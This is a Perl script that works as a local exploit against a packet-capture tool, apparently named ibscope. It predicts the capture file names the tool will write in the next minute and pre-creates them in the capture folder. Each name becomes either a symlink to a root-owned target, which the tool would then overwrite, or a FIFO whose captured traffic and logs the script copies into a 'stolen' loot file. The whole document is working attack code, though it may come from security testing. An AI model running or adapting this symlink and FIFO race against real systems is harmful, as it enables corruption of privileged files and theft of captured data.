# Prepares a capture folder: every name that a capture of this job can get in the next minute is a
# link to a file of root, or a FIFO with a reader.
use strict;
use POSIX qw(mkfifo strftime);
use Fcntl;

my ($kind, $folder, $target, $loot, $job, @nodes) = @ARGV;
mkdir $folder;
my $now = time;
my @names;
for my $second ($now .. $now + 60) {
    my $time = strftime('%Y%m%dT%H%M%SZ', gmtime $second);
    push @names, map { ("$folder/ibscope-$job-$time-$_-ibsim0-1.pcap", "$folder/ibscope-$job-$time-$_-ibsim0-1.log") } @nodes;
}
if ($kind eq 'links') {
    symlink $target, $_ for @names;
    exit 0;
}
my @fifos;
for my $name (@names) {
    mkfifo $name, 0600;
    sysopen(my $fifo, $name, O_RDONLY | O_NONBLOCK) or next;
    push @fifos, $fifo;
}
print "planted\n";
close STDOUT;
while (1) {
    for my $fifo (@fifos) {
        next unless sysread $fifo, my $bytes, 65536;
        open(my $stolen, '>>', "$loot/stolen");
        syswrite $stolen, $bytes;
    }
    select undef, undef, undef, 0.01;
}
